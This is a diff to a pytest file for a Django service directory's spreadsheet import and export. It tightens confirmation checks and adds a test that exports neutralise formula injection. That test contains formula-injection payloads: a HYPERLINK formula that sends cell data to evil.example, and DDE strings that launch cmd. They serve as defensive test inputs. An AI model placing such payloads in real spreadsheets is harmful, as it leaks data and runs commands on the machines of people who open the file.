@@ -5,15 +5,16 @@ import json
 from pathlib import Path
 
 import pytest
-from import_export.tmp_storages import TempFolderStorage
 
 from directory.models import Organisation, Service
+from directory.spreadsheet_previews import PreviewStorage, sign
 from directory.spreadsheets import COLUMNS
 from tests.factories import make_service
 
 from .helpers import sign_in
 from .spreadsheets import (
     CONFIRM,
+    EXPORT,
     FORMAT,
     as_file,
     confirm,
@@ -242,19 +243,20 @@ def test_a_commissioner_cannot_import_into_another_boroughs_services(
     assert not Service.objects.filter(slug="new-in-rbkc").exists()
 
 
-def test_a_confirmation_posted_directly_passes_the_same_checks(
-    westminster, westminster_service, rbkc_service
+def test_a_confirmation_checks_every_row_again(
+    westminster, westminster_service, rbkc_service, django_user_model
 ):
-    """Posting straight to the confirmation, without the preview, is refused row by row."""
+    """A confirmation whose file holds a row the user may not import (as if the preview had
+    passed and the file were then changed) is refused row by row, and imports nothing."""
     admin = _administrator_client()
     theirs = {**export(admin, f"?q={rbkc_service.slug}")[0], "phone": "020 7946 0999"}
     mine = {**export(westminster)[0], "phone": "020 7946 0998"}
-    storage = TempFolderStorage(encoding="utf-8-sig", read_mode="r")
+    storage = PreviewStorage(encoding="utf-8-sig", read_mode="r")
     storage.save(as_file([mine, theirs]).read())
     page = westminster.post(
         CONFIRM,
         {
-            "import_file_name": storage.name,
+            "import_file_name": sign(storage.name, django_user_model.objects.get(username="wendy")),
             "original_file_name": "services.csv",
             "format": FORMAT["csv"],
             "resource": "0",
@@ -318,6 +320,9 @@ def test_the_real_directory_exported_and_imported_into_an_empty_one_is_the_same(
 ):
     kind = "xlsx"  # the harder way round: cells have types
     monkeypatch.setenv("COMMISSIONER_PASSWORD", "a long test password")
+    # What is tested here is the round trip, not the time it takes on a busy test machine
+    # (the time limit: test_import_limits.py).
+    monkeypatch.setattr("directory.spreadsheets.IMPORT_SECONDS", 600)
     admin = _administrator_client()
     before = {slug: snapshot(slug) for slug in Service.objects.values_list("slug", flat=True)}
     rows = export(admin, kind=kind)
@@ -332,3 +337,43 @@ def test_the_real_directory_exported_and_imported_into_an_empty_one_is_the_same(
     assert after == before
     # CSV says the same as XLSX, cell for cell (CSV imports are tested row by row above).
     assert export(admin, kind="csv") == export(admin, kind="xlsx") == rows
+
+
+# Issue 22, requirement 4: an export is safe to open. A cell a spreadsheet program would run
+# as a formula is written with an apostrophe first; the import takes it off again.
+
+PAYLOADS = {
+    "name": '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Click")',
+    "summary": "+cmd|' /C calc'!A0",
+    "description": "-2+3+cmd|' /C calc'!A0",
+    "opening_hours": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+def test_an_export_never_holds_a_formula_and_imports_back_the_same(westminster, kind):
+    import csv
+    import io
+
+    import openpyxl
+
+    service = make_service(name="x", borough=("westminster",))
+    Service.objects.filter(pk=service.pk).update(**PAYLOADS)
+    response = westminster.post(EXPORT, {"format": FORMAT[kind], "resource": "0"})
+    if kind == "xlsx":
+        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active  # not data_only
+        cells = [cell for row in sheet.iter_rows() for cell in row]
+        assert cells and all(cell.data_type != "f" for cell in cells)
+        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
+    else:
+        texts = [
+            c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for c in row
+        ]
+    assert not [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    for payload in PAYLOADS.values():
+        assert f"'{payload}" in texts
+    # Imported back unchanged, the service is as it was.
+    before = snapshot(service)
+    page = import_(westminster, read_sheet(response.content, kind)[1], kind)
+    assert messages(page) == ["Imported: 0 services added, 0 changed, 1 unchanged."]
+    assert snapshot(service) == before
